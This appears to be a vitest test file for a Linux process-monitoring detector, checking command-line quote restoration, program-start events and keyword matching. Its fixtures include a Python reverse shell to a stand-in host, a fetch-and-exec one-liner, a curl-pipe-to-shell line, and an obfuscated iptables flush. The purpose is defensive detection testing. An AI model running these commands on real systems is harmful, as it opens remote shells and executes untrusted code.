import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { asTyped, isProgramStart, mentions, shortened, toldProgram } from './program-start.ts'
import { givesShellAway, runsFetchedCode } from './remote-code.ts'
import { anyOf } from './words.ts'

const row = { pid: '7', path: '/usr/bin/a', cmdline: 'a -b', cwd: '/', parent: '1', uid: '0' }

describe('asTyped', () => {
  it.each([
    ['python3 -c import os; os.system("id")', `python3 -c 'import os; os.system("id")'`],
    ["sudo -u x perl -e print 'a'", "sudo -u x perl -e 'print '\\''a'\\'''"],
    ['/usr/bin/php8.2 -r echo 1;', "/usr/bin/php8.2 -r 'echo 1;'"],
    ['ruby -rsocket -e puts 1', "ruby -rsocket -e 'puts 1'"],
  ])('gives %s its quotes back', (cmdline, typed) => {
    expect(asTyped(cmdline)).toBe(typed)
  })

  it.each([
    "python3 -c 'print(1)'",
    'python3 /opt/a.py -c a; b',
    'sh -c curl https://example.com | sh',
    'python3',
    'python3 -c',
    'ls -c python',
    '',
  ])('leaves %s as it is', cmdline => {
    expect(asTyped(cmdline)).toBe(cmdline)
  })

  it('lets the code be judged as a whole', () => {
    const shell =
      'python3 -c import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
    expect(givesShellAway(asTyped(shell))).toBe(true)
    expect(
      runsFetchedCode(
        asTyped('python3 -c import urllib.request as u; exec(u.urlopen("http://192.0.2.1/a").read())'),
      ),
    ).toBe(true)
  })

  it('never throws', () => {
    fc.assert(
      fc.property(fc.string(), line => typeof asTyped(`python -c ${line}`) === 'string'),
      { numRuns: 50 },
    )
  })
})

describe('isProgramStart', () => {
  it('is true of starts in every table, and where the kind was not selected', () => {
    expect(isProgramStart({ ...row, event_type: 'exec' })).toBe(true)
    expect(isProgramStart({ ...row, syscall: 'execve' })).toBe(true)
    expect(isProgramStart({ ...row, syscall: 'execveat' })).toBe(true)
    expect(isProgramStart({ ...row, event_type: '', syscall: '' })).toBe(true)
    expect(isProgramStart(row)).toBe(true)
  })

  it('is false of what else happens to a process', () => {
    expect(isProgramStart({ ...row, event_type: 'exit' })).toBe(false)
    expect(isProgramStart({ ...row, syscall: 'clone' })).toBe(false)
    expect(isProgramStart({ ...row, syscall: 'kill' })).toBe(false)
  })
})

it('tells of a program what is known', () => {
  expect(toldProgram({ ...row, auid: '1000', start_time: '1700000000' })).toEqual({
    program: '/usr/bin/a',
    command: 'a -b',
    pid: '7',
    parent: '1',
    folder: '/',
    uid: '0',
    login: '1000',
    time: '1700000000',
  })
})

describe('mentions', () => {
  const words = anyOf('nft', 'iptables')

  it('finds words anywhere in a line', () => {
    expect(mentions('sudo iptables -F', words)).toBe(true)
    expect(mentions('ls', words)).toBe(false)
  })

  it('rules out no line whose words the shell puts together', () => {
    expect(mentions("sh -c ip''tables -F", words)).toBe(true)
  })
})

it('cuts long command lines', () => {
  expect(shortened('a'.repeat(201))).toBe(`${'a'.repeat(200)}…`)
  expect(shortened('a')).toBe('a')
})
